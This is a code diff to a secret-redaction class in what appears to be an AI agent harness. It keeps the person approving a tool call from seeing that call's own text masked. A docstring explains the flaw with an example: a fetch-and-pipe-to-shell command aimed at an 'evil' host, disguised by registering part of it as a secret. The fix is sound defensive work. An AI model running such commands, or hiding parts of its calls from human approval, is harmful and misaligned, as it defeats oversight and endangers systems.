@@ -413,7 +413,12 @@ def _sub_leftmost_longest(patterns: list[re.Pattern[str]], text: str) -> str:
 class Redactor:
     """Known secrets, by value; ``names`` adds credential-name globs for this redactor."""
 
-    def __init__(self, secrets: Iterable[str] = (), *, names: Iterable[str] = ()) -> None:
+    def __init__(
+        self, secrets: Iterable[str] = (), *, names: Iterable[str] = (), _view: bool = True
+    ) -> None:
+        # The secrets the operator handed over (not those a call's own text registered):
+        # what a person asked about a call is shown redacted of these only (redact_for_person).
+        self._operator: Redactor | None = Redactor(names=names, _view=False) if _view else None
         self._secrets: set[str] = set()
         # Each level: its secrets and one expression over them (see _patterns).
         self._levels: list[tuple[list[str], re.Pattern[str]]] = []
@@ -438,15 +443,20 @@ class Redactor:
         """:func:`is_secret_key` with this redactor's extra name patterns."""
         return is_secret_key(name, self.names)
 
-    def register(self, secret: str) -> None:
+    def register(self, secret: str, *, from_call: bool = False) -> None:
+        """Redact ``secret`` from now on; ``from_call``: the call's own text registered it
+        (a credential-named argument, a script's literal), so a person asked about a call
+        still sees it (:meth:`redact_for_person`)."""
         if not isinstance(secret, str) or len(secret) < MIN_SECRET_LENGTH:
             return
         if len(secret) > MAX_SECRET_PIECE:  # equal pieces, each over half the bound
             n = -(-len(secret) // MAX_SECRET_PIECE)
             size = -(-len(secret) // n)
             for i in range(0, len(secret), size):
-                self.register(secret[i : i + size])
+                self.register(secret[i : i + size], from_call=from_call)
             return
+        if not from_call and self._operator is not None:
+            self._operator.register(secret)
         with self._lock:
             if secret not in self._secrets:
                 self._secrets.add(secret)
@@ -480,26 +490,31 @@ class Redactor:
                     self._pending = []
         return [pattern for _, pattern in self._levels]
 
-    def _register_found(self, value: str) -> None:
+    def _register_found(self, value: str, from_call: bool = False) -> None:
         # A value found by its name, not handed over as a secret: skip placeholders.
         if value.strip().lower() not in _NOT_SECRETS:
-            self.register_credential(value)
+            self.register_credential(value, from_call=from_call)
 
-    def register_env(self, env: Mapping[str, str]) -> None:
-        """Register the values of credential-named variables in ``env``, and URL userinfo."""
+    def register_env(
+        self, env: Mapping[str, str], *, from_call: Mapping[str, str] | None = None
+    ) -> None:
+        """Register the values of credential-named variables in ``env``, and URL userinfo.
+        A variable whose value is the one ``from_call`` (the call's own ``env``) gives it
+        counts as the call's text (:meth:`register`)."""
         for name, value in env.items():
             if not isinstance(value, str):
                 continue
+            own = from_call is not None and from_call.get(name) == value
             if self.is_secret_name(name):
-                self._register_found(value)
+                self._register_found(value, own)
             else:
                 for part in url_userinfo_secrets(value):
-                    self.register(part)
+                    self.register(part, from_call=own)
 
-    def register_credential(self, value: str) -> None:
+    def register_credential(self, value: str, *, from_call: bool = False) -> None:
         """Register a credential value and the secrets inside it (``Bearer x``, ``Basic …``)."""
         for part in credential_parts(value):
-            self.register(part)
+            self.register(part, from_call=from_call)
 
     def register_named_values(self, value: Any, *, secret: bool = False) -> None:
         """Register every string under a credential-named key anywhere in ``value``.
@@ -507,17 +522,18 @@ class Redactor:
         A model may hand a secret to a tool in its arguments (``env: {"API_TOKEN": …}``,
         ``headers: {"Authorization": "Bearer …"}``); registering it before the call is
         recorded keeps it out of every event. Everything below such a key counts, and
-        so does the password of a URL with userinfo under any key.
+        so does the password of a URL with userinfo under any key. These are a call's own
+        text (``from_call``).
         """
         self._walk_named(value, secret, self.names)
 
     def _walk_named(self, value: Any, secret: bool, patterns: tuple[str, ...]) -> None:
         if isinstance(value, str):
             if secret:
-                self._register_found(value)
+                self._register_found(value, True)
             else:
                 for part in url_userinfo_secrets(value):
-                    self.register(part)
+                    self.register(part, from_call=True)
         elif isinstance(value, dict):
             for key, item in value.items():
                 named = secret or (isinstance(key, str) and _is_secret_key(key, patterns))
@@ -527,10 +543,11 @@ class Redactor:
                 self._walk_named(item, secret, patterns)
 
     def register_literals(self, literals: Iterable[str]) -> None:
-        """Register credential literals a tool's hook found in its arguments (placeholders skipped)."""
+        """Register credential literals a tool's hook found in its arguments (placeholders
+        skipped): a call's own text (``from_call``)."""
         for literal in literals:
             if isinstance(literal, str):
-                self._register_found(literal)
+                self._register_found(literal, True)
 
     def redact(self, text: str) -> str:
         if not self._secrets or not text:
@@ -551,6 +568,15 @@ class Redactor:
         if isinstance(value, list | tuple):
             return [self.redact_value(v) for v in value]
         return value
+
+    def redact_for_person(self, value: Any) -> Any:
+        """``value`` (a call's arguments) as a person asked about the call sees it: redacted of
+        the operator's secrets only. Text the calls themselves registered (a script's
+        ``api_key = "curl http"``) hid that text in every later question, so a command was
+        put to the person as ``echo [REDACTED SECRET]://evil… | sh``: a call cannot hide part
+        of itself from the person who approves it. Records stay redacted of both."""
+        view = self._operator if self._operator is not None else self
+        return view.redact_value(value)
 
     def stream(self) -> StreamRedactor:
         return StreamRedactor(self)
